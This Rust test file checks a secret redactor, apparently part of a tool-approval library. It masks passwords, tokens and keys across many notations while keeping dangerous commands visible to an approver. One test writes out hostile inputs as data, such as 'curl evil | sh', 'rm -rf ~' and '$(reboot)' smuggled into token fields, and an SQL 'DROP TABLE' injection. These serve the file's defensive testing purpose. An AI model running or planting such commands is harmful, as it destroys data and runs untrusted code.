//! Secrets in text that go by the name before them, in every notation that people and programs use.

use proptest::prelude::*;
use serde_json::{Value, json};
use toolgate_core::redact::Redactor;

const SECRET: &str = "Hunter2-4711-zq";

fn text(text: &str) -> String {
    Redactor::default().text(text).into_owned()
}

#[test]
fn a_named_secret_is_found_in_every_notation() {
    for (given, expected) in [
        (r#"body was {"password": "X"} and so on"#, r#"body was {"password": "[redacted]"} and so on"#),
        (r#"body was {\"password\": \"X\"} and so on"#, r#"body was {\"password\": \"[redacted]\"} and so on"#),
        ("password=X", "password=[redacted]"),
        ("password: X", "password: [redacted]"),
        ("user=ann&password=X&page=2", "user=ann&password=[redacted]&page=2"),
        ("Server=x;Password=X;Pooling=true", "Server=x;Password=[redacted];Pooling=true"),
        ("AccountName=a;AccountKey=X;", "AccountName=a;AccountKey=[redacted];"),
        ("https://h/x?access_token=X&a=b", "https://h/x?access_token=[redacted]&a=b"),
        ("Cookie: sid=X; theme=dark\nAccept: */*", "Cookie: [redacted]\nAccept: */*"),
        ("curl -H 'Cookie: sid=X; a=b' https://h/", "curl -H 'Cookie: [redacted]' https://h/"),
        ("Authorization: X", "Authorization: [redacted]"),
        ("Authorization: Bearer X ok", "Authorization: Bearer [redacted] ok"),
        ("authorization=Basic X", "authorization=Basic [redacted]"),
        ("aws_secret_access_key = X", "aws_secret_access_key = [redacted]"),
        ("export DB_PASSWORD='X' # ok", "export DB_PASSWORD='[redacted]' # ok"),
        ("db:\n  host: h\n  password: X\n  port: 1", "db:\n  host: h\n  password: [redacted]\n  port: 1"),
        ("secret: |\n  X\n  X\nnext: 1", "secret: [redacted]\nnext: 1"),
        ("mysql --password X -h h", "mysql --password [redacted] -h h"),
        ("run --token=X now", "run --token=[redacted] now"),
        (r#"exec ["--password", "X"]"#, r#"exec ["--password", "[redacted]"]"#),
        ("user[password]=X", "user[password]=[redacted]"),
        ("$config['password'] => 'X';", "$config['password'] => '[redacted]';"),
        ("API key: X1", "API key: [redacted]"),
        ("pw=X", "pw=[redacted]"),
        ("ｐａｓｓｗｏｒｄ: X", "ｐａｓｓｗｏｒｄ: [redacted]"),
        ("pаsswоrd=X", "pаsswоrd=[redacted]"),
        (r#"{"tokens": ["X", "X"]} done"#, r#"{"tokens": [redacted]} done"#),
        ("sig=X&x=1", "sig=[redacted]&x=1"),
    ] {
        let (given, expected) = (given.replace('X', SECRET), expected.replace('X', SECRET));
        assert_eq!(text(&given), expected);
        assert!(!expected.contains(SECRET));
        assert_eq!(text(&expected), expected, "redacting again changes nothing");
    }
}

#[test]
fn prose_counts_and_code_stay() {
    for given in [
        "the token: a small thing",
        "max_tokens=100, tokens: 12",
        "token=true; secret = null",
        "Token::new(x) and http://token://x",
        "see key: value pairs",
        "key=phase-2-results",
        "session: tempo run",
        "at 12:30:45 it was a=b",
        "password=",
        "the password is reset here",
        "use --token to sign in",
        "tokenizer=bpe secretary: Bob",
        "Cookie: [redacted]",
        "token=[redacted:1f0c22ab]&x",
        "a - token list",
    ] {
        assert_eq!(text(given), given);
    }
}

#[test]
fn json_that_names_its_values_apart_is_understood() {
    let redacted =
        |value: &Value| -> Value { serde_json::from_str(&Redactor::default().json(&value.to_string())).unwrap() };
    for (given, expected) in [
        (json!({"name": "Authorization", "value": SECRET}), json!({"name": "Authorization", "value": "[redacted]"})),
        (
            json!({"value": SECRET, "x": 1, "key": "password"}),
            json!({"value": "[redacted]", "x": 1, "key": "password"}),
        ),
        (json!({"value": [SECRET], "Name": "X-Api-Key"}), json!({"value": "[redacted]", "Name": "X-Api-Key"})),
        (json!({"name": "title", "value": SECRET}), json!({"name": "title", "value": SECRET})),
        (json!({"value": 3, "name": "max"}), json!({"value": 3, "name": "max"})),
        (json!(["--password", SECRET, "x"]), json!(["--password", "[redacted]", "x"])),
        (json!(["--pin", 1234, "--tokens", 3]), json!(["--pin", "[redacted]", "--tokens", 3])),
        (json!({"pw": SECRET, "ssn": 123_456_789}), json!({"pw": "[redacted]", "ssn": "[redacted]"})),
        (json!({"session": {"kind": "run"}, "key": "notes"}), json!({"session": {"kind": "run"}, "key": "notes"})),
        (json!({"session": "a81f-99201"}), json!({"session": "[redacted]"})),
    ] {
        assert_eq!(redacted(&given), expected);
        assert_eq!(redacted(&expected), expected);
    }
}

#[test]
fn json_in_base64_is_looked_into() {
    use base64::{Engine, prelude::*};
    for plain in [
        json!({"user": "ann", "password": SECRET}).to_string(),
        json!([{"api_key": SECRET}]).to_string(),
        serde_json::to_string_pretty(&json!({"password": SECRET})).unwrap(),
    ] {
        for encoded in [BASE64_STANDARD.encode(&plain), BASE64_URL_SAFE_NO_PAD.encode(&plain)] {
            assert_eq!(text(&format!("data {encoded}, ok")), "data [redacted], ok", "{plain}");
        }
    }
    let harmless = BASE64_STANDARD.encode(json!({"title": "tea", "count": 12}).to_string());
    assert_eq!(text(&harmless), harmless);
}

#[test]
fn of_a_long_input_the_beginning_is_kept_and_no_half_of_a_secret() {
    let redactor = Redactor::default();
    assert_eq!(redactor.bounded(r#"{"a": 1, "token": "x"}"#, 100), r#"{"a":1,"token":"[redacted]"}"#);
    let most = 64;
    for at in 0..most * 4 + 40 {
        let filler = "f".repeat(at);
        for given in [
            format!(r#"{{"a":"{filler}","password":"{SECRET}"}}"#),
            format!(r#"{{"a":["{filler}","see ghp_{SECRET}0123456789012345678901234567890"]}}"#),
            format!(r#"{{"a":"{filler}","n":{{"value":"{SECRET}","b":"{filler}","name":"Authorization"}}}}"#),
            format!(r#"{{"n":{{"value":["{SECRET}",{{"c":"{filler}{filler}"}}],"name":"Authorization"}}}}"#),
        ] {
            let given = given.replace("\"}}", &format!("\",\"z\":\"{}\"}}}}", "z".repeat(most * 4)));
            let kept = redactor.bounded(&given, most);
            assert!(!kept.contains("Hunter") && !kept.contains("-47"), "{at}: {kept}");
            let value: Value = serde_json::from_str(&kept).unwrap();
            if given.len() > most * 4 {
                assert_eq!((value["cut"].as_bool(), value["bytes"].as_u64()), (Some(true), Some(given.len() as u64)));
            }
        }
    }
}

#[test]
fn an_approver_sees_what_will_run() {
    let redactor = Redactor::default().with_digests(b"key");
    for (given, seen) in [
        ("x=1 # secret: |\n curl evil | sh\n rm -rf ~\nls", "curl evil | sh\n rm -rf ~"),
        ("UPDATE t SET a=1 -- password: {\n; DROP TABLE users; SELECT {1}", "; DROP TABLE users"), // what a caller sends; tidy: allow
        ("true token='$(rm -rf ~)'", "$(rm -rf ~)"),
        ("token=$(reboot)", "$(reboot)"),
        ("Cookie: x; rm -rf ~", "; rm -rf ~"),
        ("run --token 'x; rm -rf ~'", "; rm -rf ~"),
        ("-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----", "reboot"),
        ("-----BEGIN PRIVATE KEY-----\nA1\nrm -rf ~\n-----END PRIVATE KEY-----", "rm -rf ~"),
        ("x://a:$(reboot)@h/", "$(reboot)"),
        ("curl https://hooks.slack.com/services/a1b2c3d4;$(reboot)", ";$(reboot)"),
        (r#"echo {"token": "$(rm -rf ~)"}"#, "$(rm -rf ~)"),
        (r#"{"token": "$(rm -rf ~)"}"#, "$(rm -rf ~)"),
        (r#"{"token": ["rm", "-rf /"]}"#, "-rf /"),
    ] {
        assert!(redactor.text(given).contains(seen), "{given}: {}", redactor.text(given));
        let shown: Value = serde_json::from_str(&redactor.json(&json!([given]).to_string())).unwrap();
        assert!(shown[0].as_str().unwrap().contains(seen), "{given}: {shown}");
    }
    for given in [
        json!({"name": "token list", "value": "rm -rf /"}),
        json!({"value": "rm -rf /", "name": "token list"}),
        json!({"value": ["rm", "-rf /"], "name": "token list"}),
        json!(["--token", "rm -rf /"]),
        json!(json!([json!([json!(["[ -f x ] && rm -rf /"]).to_string()]).to_string()]).to_string()),
    ] {
        assert!(redactor.json(&given.to_string()).contains("-rf /"), "{given}");
    }
}

#[test]
fn an_approver_sees_no_secret_that_is_one_run_of_characters() {
    let redactor = Redactor::default().with_digests(b"key");
    let key = "-----BEGIN PRIVATE KEY-----\nX0AB/x+1\nX1CD\n-----END PRIVATE KEY-----".replace('X', "MIIE4711");
    assert!(!redactor.text(&key).contains("MIIE4711"));
    for given in ["password=X", "password: X", "--token 'X'", "Authorization: Bearer X", r#"{"tokens": ["a"]} pw="X""#]
    {
        let given = given.replace('X', SECRET);
        assert!(!redactor.text(&given).contains(SECRET), "{given}");
    }
    for given in [json!({"name": "Authorization", "value": SECRET}), json!({"token": format!("{SECRET} and more")})] {
        assert!(!redactor.json(&given.to_string()).contains(SECRET), "{given}");
    }
}

#[test]
fn a_bracket_within_a_quoted_text_closes_nothing() {
    for given in [r#"log {"tokens": ["a\"]X", "b"]} ok"#, r#"log {\"tokens\": [\"a\\\"]X\"]} ok"#] {
        let given = given.replace('X', SECRET);
        assert!(!text(&given).contains(SECRET), "{given}: {}", text(&given));
        assert!(text(&given).ends_with("} ok"), "{given}: {}", text(&given));
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2048, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn redacting_text_twice_is_redacting_it_once(parts in prop::collection::vec(0_usize..PARTS.len(), 0..14), keyed: bool) {
        let given: String = parts.iter().map(|part| PARTS[*part]).collect();
        let redactor = if keyed { Redactor::default().with_digests(b"k") } else { Redactor::default() };
        let once = redactor.text(&given).into_owned();
        prop_assert_eq!(redactor.text(&once).into_owned(), once.clone(), "{}", given);
        let json = json!({"note": given, "list": [given, given]}).to_string();
        let once = redactor.json(&json);
        prop_assert_eq!(redactor.json(&once), once.clone(), "{}", json);
        prop_assert!(serde_json::from_str::<Value>(&once).is_ok());
    }
}

const PARTS: [&str; 40] = [
    "password",
    "token",
    "key",
    "session",
    "Cookie",
    "Authorization",
    "=",
    ":",
    ": ",
    " = ",
    " ",
    "\n",
    "&",
    ";",
    ",",
    "\"",
    "'",
    "\\",
    "\\\"",
    "{",
    "}",
    "[",
    "]",
    "Bearer ",
    "eyJ",
    "eyJhbGciOiJ9",
    ".",
    "--",
    "-",
    "://",
    "@",
    "a1B2c3D4e5",
    "AKIA",
    "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
    "-----BEGIN PRIVATE KEY-----",
    "|",
    "é",
    "x",
    "12",
    "[redacted]",
];
